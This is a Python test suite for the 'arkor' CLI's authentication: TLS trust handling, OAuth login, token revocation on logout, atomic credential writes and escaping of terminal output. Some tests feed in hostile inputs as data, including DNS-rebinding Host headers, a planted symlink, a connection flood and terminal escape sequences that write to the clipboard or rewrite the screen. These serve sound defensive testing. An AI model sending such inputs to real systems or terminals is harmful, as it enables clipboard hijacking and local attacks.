            ({"SSL_CERT_DIR": os.path.join(other, "missing")}, None),
            ({"SSL_CERT_DIR": TEST_CA}, None),  # a file, not a directory
        ]
        for env, expected in cases:
            with self.subTest(env=env), mock.patch.dict(os.environ, env, clear=True):
                self.assertEqual(arkor_cli._hashed_ca_dir(), expected)
        # A program that set urllib's own hook chose its trust: it is left alone.
        hook = mock.patch.object(ssl, "_create_default_https_context", ssl._create_unverified_context)
        with mock.patch.dict(os.environ, {"SSL_CERT_DIR": self.CA_DIR}, clear=True), hook:
            self.assertIsNone(arkor_cli._hashed_ca_dir())

    def test_directory_trust_is_the_default_context_but_for_its_source(self) -> None:
        import http.client
        import urllib.request

        trust = arkor_cli._directory_trust(self.CA_DIR)
        # The context http.client makes when given none, on this Python.
        default = http.client.HTTPSConnection("127.0.0.1")._context
        # Nothing is parsed up front: that is the whole saving.
        self.assertEqual(trust.cert_store_stats()["x509_ca"], 0)
        settings = (
            "verify_mode",
            "check_hostname",
            "options",
            "verify_flags",
            "minimum_version",
            "maximum_version",
            "protocol",
            "post_handshake_auth",
            "hostname_checks_common_name",
            "security_level",
        )
        for attribute in settings:
            with self.subTest(attribute=attribute):
                self.assertEqual(getattr(trust, attribute, None), getattr(default, attribute, None))
        # And the opener holds no other context that would load the whole
        # default trust (from 3.12 an HTTPSHandler makes one when built).
        opener = arkor_cli._opener(trust)
        (handler,) = (h for h in opener.handlers if isinstance(h, urllib.request.HTTPSHandler))
        self.assertIs(handler._context, trust)

    @unittest.skipUnless(POSIX, "Windows trusts its certificate stores, not a directory")
    def test_the_directory_alone_verifies_a_renewal(self) -> None:
        # The bundle OpenSSL loads by default lacks the test CA; the hashed
        # directory has it, and is all that a renewal over HTTPS needs.
        self.sign_in_oauth(expires_in=30)
        code, out, err = self.run_main("whoami", SSL_CERT_FILE=None, SSL_CERT_DIR=self.CA_DIR)
        self.assertEqual((code, err), (0, ""))
        self.assertTrue(out.startswith('{\n  "id": "auth0|ada"'), out)
        self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 1)

    @unittest.skipUnless(POSIX, "Windows trusts its certificate stores, not a directory")
    def test_a_command_tries_the_directory_first(self) -> None:
        # Seen from the server: with a hashed directory that lacks the test
        # CA, a renewal makes two TLS attempts (the directory alone, then
        # the whole default trust); with no hashed directory, one.
        for directory, attempts in ((self.lacking(), 2), (self.directory(), 1), (self.CA_DIR, 1)):
            with self.subTest(directory=directory):
                self.sign_in_oauth(expires_in=30)
                before = self.auth0.handshakes
                code, _out, err = self.run_main("whoami", SSL_CERT_FILE=None, SSL_CERT_DIR=directory)
                self.assertEqual(code, 0, err)
                self.wait_until(lambda: self.auth0.handshakes >= before + attempts)  # noqa: B023 - called at once
                time.sleep(0.3)  # and no more come
                self.assertEqual(self.auth0.handshakes - before, attempts)
                if directory == self.CA_DIR:
                    self.assertEqual(err, "")
                else:  # the renewal failed, and whoami went on with the old token
                    self.assertIn("TLS certificate not trusted (unable to get local issuer certificate)", err)

    def test_a_refused_certificate_is_checked_again_with_the_whole_trust(self) -> None:
        import ssl
        import urllib.error
        import urllib.request

        lacking = arkor_cli._directory_trust(self.lacking())
        knowing = ssl.create_default_context(cafile=TEST_CA)
        url = self.auth0.url + "/oauth/token"

        def post(first: Any, then: Any) -> int:
            request = urllib.request.Request(url, data=b"grant_type=refresh_token&refresh_token=unknown")
            try:
                with arkor_cli._opener(first, then).open(request, timeout=10) as response:
                    return int(response.status)
            except urllib.error.HTTPError as exc:  # the fake's refusal is an answer
                exc.close()
                return exc.code

        with self.assertRaises(urllib.error.URLError) as caught:
            post(lacking, lacking)
        self.assertIsInstance(caught.exception.reason, ssl.SSLCertVerificationError)
        self.assertEqual(self.auth0.requests, [])
        # Refused by the first, verified by the second: sent once, not twice.
        self.assertGreaterEqual(post(lacking, knowing), 400)
        self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 1)
        # The first is really used: when it verifies, the second is never asked.
        self.assertGreaterEqual(post(knowing, lacking), 400)
        self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 2)


class LogoutRevokeTest(OAuthCase):
    def sign_in(self) -> dict[str, Any]:
        return self.sign_in_oauth(expires_in=3600)

    def test_logout_revokes_the_refresh_token(self) -> None:
        stored = self.sign_in()
        code, out, err = self.run_main("logout", "-y")
        self.assertEqual((code, out, err), (0, f"Removed {self.creds}.\n", ""))
        (revoke,) = self.auth0.seen("POST", "/oauth/revoke")
        self.assertEqual(revoke.headers["content-type"], "application/x-www-form-urlencoded")
        self.assertEqual(
            self.auth0.revoked,
            [{"client_id": self.auth0.client_id, "token": stored["refreshToken"], "token_type_hint": "refresh_token"}],
        )
        self.assertFalse(self.auth0.accepts(stored["refreshToken"]))
        self.assertFalse(os.path.exists(self.creds))
        self.assertEqual(self.cloud.requests, [])

    def test_file_removed_whatever_auth0_answers(self) -> None:
        domain = self.auth0.domain
        cases = [
            (Answer(500), f"https://{domain}/oauth/revoke answered 500"),
            (Answer(400, {"error": "invalid_request"}), f"https://{domain}/oauth/revoke answered 400"),
        ]
        for answer, reason in cases:
            with self.subTest(reason=reason):
                self.sign_in()
                self.auth0.script("POST", "/oauth/revoke", answer)
                code, out, err = self.run_main("logout", "-y")
                self.assertEqual((code, out), (0, f"Removed {self.creds}.\n"))
                self.assertEqual(
                    err, f"Could not revoke the refresh token ({reason}); it stays valid until it expires.\n"
                )
                self.assertFalse(os.path.exists(self.creds))

    def test_file_removed_when_auth0_is_down(self) -> None:
        self.sign_in()
        self.auth0.stop()
        code, out, err = self.run_main("logout", "--yes")
        self.assertEqual((code, out), (0, f"Removed {self.creds}.\n"))
        self.assertEqual(
            err,
            f"Could not revoke the refresh token (Could not reach https://{self.auth0.domain}/oauth/revoke:"
            " Connection refused); it stays valid until it expires.\n",
        )
        self.assertFalse(os.path.exists(self.creds))

    def test_revoke_waits_briefly(self) -> None:
        self.sign_in()
        self.auth0.script("POST", "/oauth/revoke", Answer(200, delay=60))
        started = time.monotonic()
        code, out, err = self.run_main("logout", "-y")
        self.assertLess(time.monotonic() - started, 20)  # a hang guard: the cap is 5 s
        self.assertEqual((code, out), (0, f"Removed {self.creds}.\n"))
        self.assertIn("timed out", err)
        self.assertFalse(os.path.exists(self.creds))

    def test_declined_logout_revokes_nothing(self) -> None:
        before = self.sign_in()
        self.run_main("logout")  # no terminal: the default, No
        self.assertEqual(self.auth0.requests, [])
        self.assertEqual(self.read_creds(), before)


class LoginWaitTest(OAuthCase):
    def test_timeout(self) -> None:
        started = time.monotonic()
        code, out, err = self.run_main("login", "--oauth", "--no-browser", "--timeout", "2")
        self.assertLess(time.monotonic() - started, 15)  # a hang guard, not a speed claim
        self.assertEqual(code, 1)
        self.assertTrue(out.startswith("Browser: https://"))
        self.assertEqual(err, "Login failed\nTimed out waiting for the browser callback after 2 s.\n")
        self.assert_port_closed(self.ports[0])
        self.assertFalse(os.path.exists(self.creds))

    def test_bad_timeouts_are_usage_errors(self) -> None:
        for value in ("0", "-1", "soon", "nan"):
            with self.subTest(value=value):
                code, _, err = self.run_main("login", "--oauth", "--timeout", value)
                self.assertEqual(code, 2)
                self.assertIn("not a positive number of seconds", err)
        self.assertEqual(self.cloud.requests, [])

    def where_the_browser_ends(self, shown: str, state: str | None = None) -> str:
        """Follow the sign-in URL to Auth0's redirect, without reaching the
        listener: the address a browser on another machine would show."""
        import ssl
        import urllib.error
        import urllib.request

        url = next(line for line in shown.splitlines() if line.startswith("Browser: "))[len("Browser: ") :]

        class Stop(urllib.request.HTTPRedirectHandler):
            def redirect_request(self, *args: Any) -> None:
                return None

        opener = urllib.request.build_opener(
            urllib.request.HTTPSHandler(context=ssl.create_default_context(cafile=TEST_CA)), Stop()
        )
        try:
            opener.open(url, timeout=10)
        except urllib.error.HTTPError as exc:
            location = exc.headers["Location"]
        if state is not None:
            parts = urlsplit(location)
            query = {k: v[0] for k, v in parse_qs(parts.query).items()}
            location = parts._replace(query=urlencode(dict(query, state=state))).geturl()
        self.assertEqual(self.cloud.seen("GET", "/callback"), [])
        return location

    @unittest.skipUnless(POSIX, "needs a pty")
    def test_paste_the_url_over_ssh(self) -> None:
        code, shown, err = self.run_tty(
            ["login", "--oauth", "--no-browser"], [self.where_the_browser_ends], NO_COLOR="1"
        )
        self.assertEqual((code, err), (0, ""))
        self.assertIn(
            "Or, if the browser cannot reach this machine, paste the address it ended on and press Enter:", shown
        )
        self.assertTrue(shown.endswith("Signed in\n"), shown)
        self.assertEqual(self.read_creds()["mode"], "auth0")
        self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 1)

    @unittest.skipUnless(POSIX, "needs a pty")
    def test_pasted_url_is_checked_like_a_callback(self) -> None:
        cases = [
            (
                lambda shown: self.where_the_browser_ends(shown, state="forged"),
                "State mismatch \u2014 aborting to prevent CSRF",
            ),
            (lambda shown: "http://127.0.0.1/callback?error=access_denied", "Authentication failed: access_denied"),
            (lambda shown: "not a url at all", "Missing code/state in callback"),
        ]
        for answer, reason in cases:
            with self.subTest(reason=reason):
                self.auth0.requests.clear()
                code, _, err = self.run_tty(["login", "--oauth", "--no-browser"], [answer], NO_COLOR="1")
                self.assertEqual((code, err), (1, f"Login failed\n{reason}\n"))
                self.assertEqual(self.auth0.seen("POST", "/oauth/token"), [])
                self.assertFalse(os.path.exists(self.creds))

    @unittest.skipUnless(POSIX, "needs a pty")
    def test_paste_while_stdout_goes_through_tee(self) -> None:
        # `arkor login --oauth --no-browser | tee log` over SSH: stdin is the
        # terminal, stdout a pipe; pasting must still work.
        import pty

        master, slave = pty.openpty()
        proc = subprocess.Popen(
            [sys.executable, MODULE, "login", "--oauth", "--no-browser"],
            stdin=slave,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env=self.env(),
        )
        os.close(slave)
        try:
            assert proc.stdout is not None
            # Raw reads with a deadline: a missing prompt must fail, not hang.
            seen = b""
            deadline = time.monotonic() + 20
            while seen.count(b"\n") < 2 and time.monotonic() < deadline:
                ready, _, _ = select.select([proc.stdout], [], [], 0.1)
                if ready:
                    seen += os.read(proc.stdout.fileno(), 4096)
            browser_line, prompt = (seen.decode().split("\n") + ["", ""])[:2]
            self.assertTrue(browser_line.startswith("Browser: https://"), seen)
            self.assertEqual(
                prompt, "Or, if the browser cannot reach this machine, paste the address it ended on and press Enter:"
            )
            os.write(master, self.where_the_browser_ends(browser_line).encode() + b"\n")
            out, err = proc.communicate(timeout=30)
        finally:
            if proc.poll() is None:
                proc.kill()
            os.close(master)
        self._record(out, err)
        self.assertEqual((proc.returncode, out, err), (0, "Signed in\n", ""))

    def test_no_paste_prompt_without_a_terminal(self) -> None:
        proc, url, _ = self.start_login()
        browse(url)
        self.assertEqual(self.finish(proc), (0, "Signed in\n", ""))

    def test_foreign_host_header_is_refused_without_ending_the_login(self) -> None:
        proc, url, q = self.start_login()
        port = self.ports[0]
        # A page on evil.example whose name was rebound to 127.0.0.1 (DNS rebinding).
        for host in (f"evil.example:{port}", "127.0.0.1", f"127.0.0.1:{port + 1}", f"localhost.evil:{port}"):
            status, headers, body = self.callback(port, "/callback?code=x&state=" + q["state"], host=host)
            self.assertEqual((status, body), (400, b"Unexpected Host header"), host)
            self.assertEqual(headers["content-type"], "text/plain; charset=utf-8")
        self.assertIsNone(proc.poll())
        self.assertEqual(self.auth0.requests, [])
        # localhost:<port> is one of ours.
        location = urlsplit(self.redirect_of(url))
        status, _, _ = browse(f"http://localhost:{port}/callback?{location.query}")
        self.assertEqual(status, 200)
        self.assertEqual(self.finish(proc), (0, "Signed in\n", ""))

    def redirect_of(self, url: str) -> str:
        return self.where_the_browser_ends(f"Browser: {url}")

    def test_only_the_first_callback_counts(self) -> None:
        # Two callbacks race in: one decides, the other is turned away.
        proc, url, _q = self.start_login()
        good = urlsplit(self.redirect_of(url)).query
        results: list[int] = []

        def call(query: str) -> None:
            try:
                results.append(self.callback(self.ports[0], "/callback?" + query)[0])
            except OSError:
                results.append(-1)  # the listener had already closed

        import threading

        threads = [threading.Thread(target=call, args=(good,)) for _ in range(4)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(20)
        self.assertEqual(self.finish(proc), (0, "Signed in\n", ""))
        self.assertEqual(results.count(200), 1, results)
        self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 1)


class WhoamiJsonTest(Case):
    def test_json_prints_the_whole_body(self) -> None:
        self.sign_in_anon()
        body = {"user": {"id": "u1", "name": "Zo\u00eb"}, "orgs": [{"slug": "a"}], "extra": [1, None]}
        self.cloud.script("GET", "/v1/me", Answer(200, body))
        code, out, err = self.run_main("whoami", "--json")
        self.assertEqual((code, err), (0, ""))
        self.assertEqual(json.loads(out), body)
        self.assertEqual(out, json.dumps(body, indent=2) + "\n")  # ASCII: valid JSON in any encoding

    def test_json_survives_a_narrow_encoding(self) -> None:
        self.sign_in_anon()
        body = {"user": {"name": "Zo\u00eb \U0001f600"}, "orgs": []}
        self.cloud.script("GET", "/v1/me", Answer(200, body))
        proc = self.run_cli("whoami", "--json", PYTHONIOENCODING="cp1252")
        self.assertEqual(proc.returncode, 0)
        self.assertEqual(json.loads(proc.stdout), body)

    def test_json_keeps_stdout_for_json(self) -> None:
        code, out, err = self.run_main("whoami", "--json")
        self.assertEqual((code, out, err), (0, "", NOT_SIGNED_IN))
        self.sign_in_anon()
        self.cloud.script("GET", "/v1/me", Answer(500))
        code, out, err = self.run_main("whoami", "--json")
        self.assertEqual((code, out, err), (0, "", "Failed to fetch /v1/me (500). Token may be expired.\n"))
        self.cloud.script("GET", "/v1/me", Answer(426, body=b""))
        code, out, err = self.run_main("whoami", "--json")
        self.assertEqual((code, out), (1, ""))
        self.cloud.script("GET", "/v1/me", Answer(200, body=b"<html>"))
        code, out, err = self.run_main("whoami", "--json")
        self.assertEqual((code, out, err), (1, "", "Unexpected answer from GET /v1/me (200): not JSON: <html>\n"))


class PublicApiTest(OAuthCase):
    """The functions scripts import: the same ones the commands use."""

    @contextlib.contextmanager
    def environment(self, **env: str | None) -> Iterator[None]:
        with mock.patch.dict(os.environ, self.env(**env), clear=True):
            yield

    def test_exports(self) -> None:
        self.assertEqual(
            sorted(arkor_cli.__all__),
            ["ArkorError", "__version__", "cloud_api_url", "credentials_path", "get_token", "main", "read_credentials"],
        )
        for name in arkor_cli.__all__:
            value = getattr(arkor_cli, name)
            if callable(value):
                self.assertTrue(value.__doc__, f"{name} has no docstring")

    def test_signed_out(self) -> None:
        with self.environment():
            self.assertEqual(arkor_cli.credentials_path(), self.creds)
            self.assertIsNone(arkor_cli.read_credentials())
            self.assertIsNone(arkor_cli.get_token())
            self.assertEqual(arkor_cli.cloud_api_url(), self.cloud.url)
        with self.environment(ARKOR_CLOUD_API_URL=None):
            self.assertEqual(arkor_cli.cloud_api_url(), "https://api.arkor.ai")
        self.assertEqual(self.cloud.requests, [])

    def test_signed_in_anonymously(self) -> None:
        self.assertEqual(self.run_main("login", "--anonymous")[0], 0)
        (token,) = self.cloud.tokens
        with self.environment(ARKOR_CLOUD_API_URL=None):
            self.assertEqual(arkor_cli.get_token(), token)
            self.assertEqual(arkor_cli.cloud_api_url(), self.cloud.url)  # the stored one
            stored = arkor_cli.read_credentials()
            assert stored is not None
            self.assertEqual(stored["mode"], "anon")
        with self.environment(ARKOR_CLOUD_API_URL="http://127.0.0.1:1/"):
            self.assertEqual(arkor_cli.cloud_api_url(), "http://127.0.0.1:1")  # the variable wins

    def test_get_token_renews_near_expiry(self) -> None:
        tokens = {"access_token": self.sign_in_oauth(expires_in=10, mode="oauth")["accessToken"]}
        with self.environment():
            token = arkor_cli.get_token()
            self.assertEqual(token, self.auth0.issued[-1]["access_token"])
            self.assertNotEqual(token, tokens["access_token"])
            self.assertEqual(arkor_cli.get_token(), token)  # fresh now: no second renewal
        self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 1)
        self.assertEqual(self.read_creds()["accessToken"], token)
        # and the token works against the cloud-api
        code, out, _ = self.run_main("whoami")
        self.assertEqual(code, 0)
        self.assertTrue(out.endswith("Orgs: ada-personal, analytical\n"))

    def test_broken_file_raises_the_cli_message(self) -> None:
        self.write_creds(b"{oops")
        with self.environment(), self.assertRaises(arkor_cli.ArkorError) as caught:
            arkor_cli.get_token()
        self.assertTrue(caught.exception.message.startswith(f"{self.creds} does not hold valid arkor credentials"))
        self.assertEqual(caught.exception.status, 1)


# ---------------------------------------------------------------------------
# Resilience: nothing lost, nothing torn, nothing leaked
# ---------------------------------------------------------------------------


def can_mount_tmpfs() -> bool:
    """Root on Linux with mount(8) allowed (CI here): tiny and read-only filesystems."""
    if not sys.platform.startswith("linux") or os.geteuid() != 0 or not shutil.which("mount"):
        return False
    probe = tempfile.mkdtemp()
    try:
        ok = subprocess.run(
            ["mount", "-t", "tmpfs", "-o", "size=16k", "tmpfs", probe], capture_output=True, check=False
        )
        if ok.returncode != 0:
            return False
        subprocess.run(["umount", probe], check=False)
        return True
    finally:
        os.rmdir(probe)


class ResilienceTest(OAuthCase):
    def assert_whole_anon_file(self) -> dict[str, Any]:
        data = self.read_creds()  # valid JSON, or this raises
        self.assertEqual(data["mode"], "anon")
        self.assertIn(data["token"], self.cloud.tokens)
        return data

    def test_twenty_logins_at_once(self) -> None:
        # Twenty processes replace the file at once while a reader watches:
        # the reader only ever sees no file or a whole one, and one whole
        # file is left, with no temp file beside it.
        import threading

        torn: list[str] = []
        stop = threading.Event()

        def watch() -> None:
            while not stop.is_set():
                try:
                    with open(self.creds, encoding="utf-8") as f:
                        text = f.read()
                except FileNotFoundError:
                    continue
                try:
                    json.loads(text)
                except ValueError:
                    torn.append(text)

        watcher = threading.Thread(target=watch)
        watcher.start()
        try:
            procs = [self.spawn("login", "--anonymous") for _ in range(20)]
            for proc in procs:
                out, err = proc.communicate(timeout=120)
                self._record(out, err)
                self.assertEqual((proc.returncode, err), (0, ""))
        finally:
            stop.set()
            watcher.join()
        self.assertEqual(torn, [])
        self.assertEqual(len(self.cloud.tokens), 20)
        self.assert_whole_anon_file()
        self.assertEqual(self.leftovers(), [])
        code, out, _ = self.run_main("whoami")
        self.assertEqual(code, 0)

    @unittest.skipUnless(POSIX, "SIGKILL")
    def test_sigkill_at_many_points_never_tears_the_file(self) -> None:
        # Kill a login at delays spread over its whole life (start-up,
        # request, write, rename): the file is always the old one or the new
        # one, whole; a temp file a kill leaves behind is private.
        self.sign_in_anon()
        kept = replaced = 0
        for step in range(40):
            proc = self.spawn("login", "--anonymous")
            time.sleep(step * 0.006)
            proc.kill()
            out, err = proc.communicate(timeout=30)
            self._record(out, err)
            data = self.read_creds()
            if data["token"] == "anon-token-stored":
                kept += 1
            else:
                self.assert_whole_anon_file()
                replaced += 1
            for name in self.leftovers():
                mode = stat.S_IMODE(os.stat(os.path.join(self.arkor_dir, name)).st_mode)
                self.assertEqual(mode & 0o077, 0, f"{name} is readable by others")
                os.remove(os.path.join(self.arkor_dir, name))
        self.assertEqual(kept + replaced, 40)
        self.assertGreater(kept, 0)  # the kills landed before the rename, too
        self.assertGreater(replaced, 0)  # and after it

    @unittest.skipUnless(can_mount_tmpfs(), "needs root and mount(8) for a tiny or read-only filesystem")
    def test_full_and_read_only_filesystems(self) -> None:
        mount = tempfile.mkdtemp(prefix="arkor-fs-")
        self.addCleanup(os.rmdir, mount)
        subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", mount], check=True)
        self.addCleanup(subprocess.run, ["umount", mount], check=False)
        home = os.path.join(mount, "home")
        os.makedirs(os.path.join(home, ".arkor"))
        creds = os.path.join(home, ".arkor", "credentials.json")
        self.cloud.add_token("anon-token-stored")
        old = {
            "mode": "anon",
            "token": "anon-token-stored",
            "anonymousId": "anon-stored",
            "arkorCloudApiUrl": self.cloud.url,
            "orgSlug": "stored-org",
        }
        with open(creds, "w") as f:
            json.dump(old, f)
        # Fill the disk to the last byte.
        fd = os.open(os.path.join(mount, "filler"), os.O_WRONLY | os.O_CREAT)
        try:
            while os.write(fd, b"\0" * 512):
                pass
        except OSError:
            pass  # full
        finally:
            os.close(fd)
        code, out, err = self.run_main("login", "--anonymous", HOME=home, USERPROFILE=home)
        self.assertEqual((code, out), (1, ""))
        self.assertEqual(err, f"Could not write {creds}: No space left on device.\n")
        with open(creds) as f:
            self.assertEqual(json.load(f), old)
        self.assertEqual(
            sorted(set(os.listdir(os.path.dirname(creds))) - {"credentials.json.lock"}), ["credentials.json"]
        )
        # Read-only: the login says so; whoami still reads.
        os.remove(os.path.join(mount, "filler"))
        subprocess.run(["mount", "-o", "remount,ro", mount], check=True)
        code, out, err = self.run_main("login", "--anonymous", HOME=home, USERPROFILE=home)
        self.assertEqual((code, out), (1, ""))
        self.assertEqual(err, f"Could not write {creds}: Read-only file system.\n")
        code, out, _ = self.run_main("whoami", HOME=home, USERPROFILE=home)
        self.assertEqual(code, 0)
        self.assertTrue(out.startswith("{"), out)

    @unittest.skipUnless(POSIX, "symlinks need privileges on Windows")
    def test_a_link_planted_at_the_temp_name_is_never_followed(self) -> None:
        self.sign_in_anon()
        before = self.creds_bytes()
        victim = os.path.join(self.home, "victim.txt")
        with open(victim, "w") as f:
            f.write("precious")
        # Make the temp name predictable, and plant a link there first.
        planted = os.path.join(self.arkor_dir, f".credentials.json.{os.getpid()}.{'00' * 6}.tmp")
        os.symlink(victim, planted)
        with mock.patch.object(os, "urandom", return_value=b"\0" * 6):
            code, out, err = self.run_main("login", "--anonymous")
        self.assertEqual((code, out), (1, ""))
        self.assertEqual(err, f"Could not write {self.creds}: File exists.\n")
        with open(victim) as f:
            self.assertEqual(f.read(), "precious")
        self.assertEqual(self.creds_bytes(), before)
        self.assertTrue(os.path.islink(planted))  # not ours to remove

    def test_tls_failures(self) -> None:
        self.sign_in_anon()
        for cert, reason in (
            (
                "expired",
                (
                    "TLS certificate not trusted (certificate has expired)."
                    " Check this machine's clock, then the server's certificate."
                ),
            ),
            (
                "wrong-host",
                (
                    "TLS certificate not trusted (IP address mismatch, certificate is not valid for '127.0.0.1')."
                    " The certificate is for another host: check the URL."
                ),
            ),
        ):
            with self.subTest(cert=cert), FakeAuth0(cert=cert) as server:
                code, out, err = self.run_main("whoami", ARKOR_CLOUD_API_URL=server.url)
                self.assertEqual((code, out, err), (1, "", f"Could not reach {server.url}/v1/me: {reason}\n"))
                self.assertEqual(server.requests, [])  # nothing was sent over it
        # A certificate authority the system store does not know.
        code, out, err = self.run_main("whoami", ARKOR_CLOUD_API_URL=self.auth0.url, SSL_CERT_FILE=None)
        self.assertEqual(code, 1)
        self.assertIn("TLS certificate not trusted (unable to get local issuer certificate).", err)
        self.assertIn("point SSL_CERT_FILE at its bundle", err)
        self.assertEqual(self.auth0.requests, [])

    def test_proxies_are_honoured(self) -> None:
        from fake_cloud import FakeProxy

        self.sign_in_anon()
        self.cloud.add_token("anon-token-stored", user={"id": "via-proxy"}, orgs=[])
        with FakeProxy() as proxy:
            code, out, err = self.run_main("whoami", HTTP_PROXY=proxy.url)
            self.assertEqual((code, out, err), (0, '{\n  "id": "via-proxy"\n}\n', ""))
            self.assertEqual(proxy.seen, [("GET", f"{self.cloud.url}/v1/me")])
            # HTTPS through the proxy is a CONNECT tunnel, and TLS is still
            # checked end to end: the OAuth token exchange goes that way.
            proc, url, _ = self.start_login(HTTPS_PROXY=proxy.url)
            status, _, _ = browse(url)
            self.assertEqual(status, 200)
            self.assertEqual(self.finish(proc), (0, "Signed in\n", ""))
            self.assertIn(("CONNECT", self.auth0.domain), proxy.seen)
            # NO_PROXY goes direct.
            proxy.seen.clear()
            code, out, _ = self.run_main("whoami", HTTP_PROXY=proxy.url, NO_PROXY="127.0.0.1")
            self.assertEqual(code, 0)
            self.assertEqual(proxy.seen, [])

    def test_listener_under_load(self) -> None:
        # Idle connections (as browsers pre-open), an oversized header and a
        # flood of junk do not stop the real callback from getting through.
        proc, url, _ = self.start_login()
        port = self.ports[0]
        idle = []
        for _ in range(40):
            s = socket.create_connection(("127.0.0.1", port), timeout=5)
            idle.append(s)
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
                s.sendall(b"GET /callback HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nX-Big: %s\r\n\r\n" % (port, b"a" * 70000))
                answer = s.recv(100)
            self.assertTrue(answer.startswith((b"HTTP/1.0 431", b"HTTP/1.0 400")), answer)
            # A client that sends junk and resets the connection: the server
            # must not print socketserver's traceback into the user's terminal.

            for _ in range(5):
                with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
                    s.sendall(b"GET /callback HTTP/1.1\r\nX-Big: " + b"a" * 70000)
                    reset_on_close(s)
            for _ in range(20):
                status, _, _ = self.callback(port, "/nothing-here")
                self.assertEqual(status, 404)
            self.assertIsNone(proc.poll())
            status, _, _ = browse(url)
            self.assertEqual(status, 200)
            self.assertEqual(self.finish(proc), (0, "Signed in\n", ""))
        finally:
            for s in idle:
                s.close()


class TerminalInjectionTest(OAuthCase):
    """Text from servers and callbacks reaches the terminal with its control
    and format characters escaped: it cannot rewrite the screen, the title
    or the clipboard, nor reverse a name."""

    OSC52 = "\x1b]52;c;ZXZpbA==\x07"  # "write 'evil' to the clipboard"

    def test_anonymous_identity_fields(self) -> None:
        minted = self.cloud.mint_anonymous()
        minted["anonymousId"] = f"id{self.OSC52}"
        minted["personalOrg"]["slug"] = "org\u202elive"  # right-to-left override
        self.cloud.script("POST", "/v1/auth/anonymous", Answer(201, minted))
        code, out, _ = self.run_main("login", "--anonymous")
        self.assertEqual(code, 0)
        self.assertIn("Anonymous id: id\\u001b]52;c;ZXZpbA==\\u0007\n", out)
        self.assertIn("(personal org: org\\u202elive).", out)
        self.assertNotIn("\x1b", out)
        self.assertEqual(self.read_creds()["anonymousId"], f"id{self.OSC52}")  # stored as given

    def test_whoami_output(self) -> None:
        self.sign_in_anon()
        user = {"name": "Ada\x9b2J", "bio": f"hi{self.OSC52}"}  # \x9b: a one-byte CSI
        body = {"user": user, "orgs": [{"slug": "\x1b[31mred"}]}
        self.cloud.script("GET", "/v1/me", Answer(200, body))
        code, out, _ = self.run_main("whoami")
        self.assertEqual(code, 0)
        self.assertNotIn("\x1b", out)
        self.assertNotIn("\x9b", out)
        self.assertIn('"name": "Ada\\u009b2J"', out)
        self.assertTrue(out.endswith("Orgs: \\u001b[31mred\n"), out)
        code, out, _ = self.run_main("whoami", "--json")
        self.assertEqual(json.loads(out), body)  # escaped, and still the same JSON

    def test_error_bodies_and_callback_text(self) -> None:
        self.cloud.script("POST", "/v1/auth/anonymous", Answer(500, body=b"\x1b[2Jgone"))
        code, _, err = self.run_main("login", "--anonymous")
        self.assertEqual((code, err), (1, "POST /v1/auth/anonymous failed (500): \\u001b[2Jgone\n"))
        _, code, err = self.login_denied("\x1b[2J\x1b]0;owned\x07")
        self.assertEqual(
            (code, err), (1, "Login failed\nAuthentication failed: access_denied. \\u001b[2J\\u001b]0;owned\\u0007\n")
        )


# ---------------------------------------------------------------------------
# logout
# ---------------------------------------------------------------------------


class LogoutTest(Case):
    def test_no_file(self) -> None:
        code, out, err = self.run_main("logout")
        self.assertEqual((code, out, err), (0, "No credentials on file.\n", ""))
        code, out, err = self.run_main("logout", "--yes")
        self.assertEqual((code, out, err), (0, "No credentials on file.\n", ""))

    def test_yes_flags_delete_without_asking(self) -> None:
        for flag in ("-y", "--yes", "-f", "--force"):
            with self.subTest(flag=flag):
                self.write_creds({"mode": "oauth", **{k: v for k, v in self.auth0_creds().items() if k != "mode"}})
                with mock.patch.object(arkor_cli, "_revoke"):  # revoking has tests of its own
                    code, out, err = self.run_main("logout", flag)
                self.assertEqual((code, out, err), (0, f"Removed {self.creds}.\n", ""))
                self.assertFalse(os.path.exists(self.creds))
        self.assertEqual(self.cloud.requests, [])

    def test_anonymous_with_yes_warns_that_the_identity_is_lost(self) -> None:
        self.sign_in_anon()
        code, out, err = self.run_main("logout", "-y")
        self.assertEqual(code, 0)
        self.assertEqual(out, f"Removed {self.creds}.\n")
        self.assertEqual(err, "The anonymous identity anon-stored cannot be restored once deleted.\n")

    def test_no_terminal_takes_the_default_no(self) -> None:
        before = self.write_creds(self.auth0_creds())
        code, out, err = self.run_main("logout", stdin="y\n")  # stdin is not a TTY
        self.assertEqual(code, 0)
        self.assertEqual(out, "Aborted.\n")
        self.assertEqual(err, "No terminal to confirm on; pass --yes to delete without asking.\n")
        self.assertEqual(self.creds_bytes(), before)

    def test_only_the_credentials_file_is_removed(self) -> None:
        self.sign_in_anon()
        other = os.path.join(self.arkor_dir, "state.json")
        with open(other, "w") as f:
            f.write("{}")
        self.run_main("logout", "-y")
        self.assertTrue(os.path.exists(other))
        self.assertTrue(os.path.isdir(self.arkor_dir))

    def test_broken_file_can_still_be_removed(self) -> None:
        self.write_creds(b"{broken")
        code, out, _ = self.run_main("logout", "-y")
        self.assertEqual((code, out), (0, f"Removed {self.creds}.\n"))
        self.assertFalse(os.path.exists(self.creds))

    def test_directory_in_place_of_the_file(self) -> None:
        os.makedirs(self.creds)
        code, _out, err = self.run_main("logout", "-y")
        self.assertEqual(code, 1)
        self.assertTrue(err.startswith(f"Could not remove {self.creds}: "), err)
        self.assertTrue(os.path.isdir(self.creds))

    @unittest.skipUnless(POSIX, "needs a pty")
    def test_confirmation_on_a_terminal(self) -> None:
        for answer, deleted in (("", False), ("n", False), ("no", False), ("y", True), ("YES", True)):
            with self.subTest(answer=answer):
                before = self.write_creds(self.auth0_creds())
                code, shown, _err = self.run_tty(["logout"], [answer], NO_COLOR="1")
                self.assertEqual(code, 0)
                self.assertIn(f"Delete {self.creds}? [y/N] ", shown)
                self.assertNotIn("anonymous identity", shown)
                if deleted:
                    self.assertIn(f"Removed {self.creds}.\n", shown)
